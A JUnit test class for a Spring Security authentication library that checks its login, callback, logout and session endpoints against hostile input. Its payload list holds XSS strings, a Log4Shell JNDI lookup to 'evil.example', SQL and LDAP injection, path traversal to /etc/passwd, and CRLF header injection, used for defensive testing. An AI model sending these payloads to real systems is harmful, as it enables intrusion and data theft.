package dev.wristband.spring.security.config;

import java.nio.charset.StandardCharsets;
import java.util.List;

import jakarta.servlet.http.Cookie;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;
import org.springframework.web.util.UriUtils;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Sends text that other programs stumble over in every parameter and cookie that the
 * endpoints read.
 */
class HostileInputTests {

	private static final List<String> PARAMETERS = List.of("tenant_name", "tenant_custom_domain", "return_url",
			"login_hint", "idp_hint", "state", "code", "error", "error_description", "redirect_url", "extend", "_csrf");

	@RegisterExtension
	static final TestScene scene = new TestScene();

	static List<String> payloads() {
		return List.of("<script>alert(1)</script>", "\"><svg/onload=alert(1)>", "'-alert(1)-'", "javascript:alert(1)",
				"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//", "</title><script>x</script>",
				"&lt;script&gt;", "<!--#exec cmd=\"ls\"-->", "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}",
				"#{T(java.lang.Runtime)}", "%s%n%x", "{0}", "' OR 1=1 --", "*)(uid=*", "../../etc/passwd",
				"\r\nSet-Cookie: evil=1", "\nX-Evil: 1", "a\u0000b", "\u560d\u560aSet-Cookie:evil=1", "\ufeff",
				"\u202eevil", "\ud83d\ude00", "\u0130", "undefined", "null", "NaN", "true", "[]", "-1", "1e309", "COM1",
				"a".repeat(9000), "%", "%zz", "\uffff", "  ", "\t");
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void endpointsWhenParameterIsHostileNeitherFailNorReflectIt(String payload) {
		for (String parameter : PARAMETERS) {
			String pair = parameter + "=" + UriUtils.encode(payload, StandardCharsets.UTF_8);
			for (String url : List.of("/api/auth/login?tenant_name=acme", "/api/auth/login?",
					"/api/auth/callback?code=x&state=y&tenant_name=acme", "/api/auth/callback?code=x&tenant_name=acme",
					"/api/auth/callback?state=y&tenant_name=acme", "/api/auth/logout?tenant_name=acme",
					"/api/auth/logout?", "/hello?", "/api/auth/session?", "/api/auth/token?")) {
				assertHarmless(scene.browser().get(url + "&" + pair), payload);
			}
		}
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void endpointsWhenCookieIsHostileNeitherFailNorReflectIt(String payload) {
		for (String name : List.of("login-restarts", "login#y#1", "login#y#1700000000000", "JSESSIONID",
				"CSRF-TOKEN")) {
			for (String url : List.of("/api/auth/login?tenant_name=acme",
					"/api/auth/callback?code=x&state=y&tenant_name=acme", "/api/auth/logout", "/hello",
					"/api/auth/session", "/api/auth/token")) {
				TestBrowser browser = scene.browser();
				browser.cookies().put(name, new Cookie(name, payload));
				assertHarmless(browser.get(url), payload);
			}
		}
	}

	// Others do not come over the wire
	static List<String> headers() {
		return payloads().stream().filter((payload) -> payload.chars().allMatch((c) -> c >= 0x20 && c < 0x7f)).toList();
	}

	@ParameterizedTest
	@MethodSource("headers")
	void endpointsWhenHeaderIsHostileNeitherFailNorReflectIt(String payload) {
		for (String header : List.of("Accept", "Accept-Language", "Sec-Fetch-Mode", "Sec-Fetch-Dest", "Sec-Fetch-Site",
				"X-Requested-With", "Origin", "Referer", "X-CSRF-TOKEN", "Upgrade")) {
			for (String url : List.of("/api/auth/login?tenant_name=-", "/api/auth/callback", "/hello",
					"/api/auth/session", "/api/auth/token")) {
				assertHarmless(
						scene.browser().send(MockMvcRequestBuilders.get(TestBrowser.uri(url)).header(header, payload)),
						payload);
			}
		}
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void scriptEndpointsWhenCookieOfUserIsHostileStayJson(String payload) {
		TestBrowser browser = scene.browser();
		scene.logIn(browser);
		browser.cookies().put("CSRF-TOKEN", new Cookie("CSRF-TOKEN", payload));
		MockHttpServletResponse response = browser.get("/api/auth/session");
		assertThat(response.getStatus()).isEqualTo(200);
		assertThat(TestAnswers.body(response))
			.isEqualTo("{\"userId\":\"user-1\",\"tenantId\":\"tenant-acme\",\"metadata\":{}}");
		assertThat(response.getHeaders("Set-Cookie")).singleElement()
			.asString()
			.matches("CSRF-TOKEN=[A-Za-z0-9_-]{32}; Path=/; Secure; SameSite=Lax");
	}

	private static void assertHarmless(MockHttpServletResponse response, String payload) {
		TestAnswers.isHarmless(response);
		assertThat(response.getStatus()).isIn(302, 400, 401, 403, 404, 503);
		if (payload.length() > 5) {
			assertThat(TestAnswers.body(response)).doesNotContain(payload);
		}
		String location = String.valueOf(response.getHeader("Location"));
		assertThat(location).doesNotContain("<", "\"", "\r", "\n", "\u0000");
		if (response.getStatus() == 302) {
			assertThat(location)
				.matches("/|/api/auth/login(\\?.*)?|/[^/\\\\].*|https://([a-z0-9-]+-)?app-company.us.wristband.dev/.*"
						+ "|https://app.example.com/api/auth/login\\?tenant_name=.*");
		}
		for (String name : response.getHeaderNames()) {
			assertThat(name).doesNotContainIgnoringCase("evil");
			assertThat(response.getHeaders(name)).noneMatch((value) -> value.contains("\r") || value.contains("\n"));
		}
		assertThat(response.getHeaders("Set-Cookie"))
			.allMatch((cookie) -> cookie.startsWith("login") || cookie.startsWith("CSRF-TOKEN=; Path=/; Max-Age=0;"));
	}

}
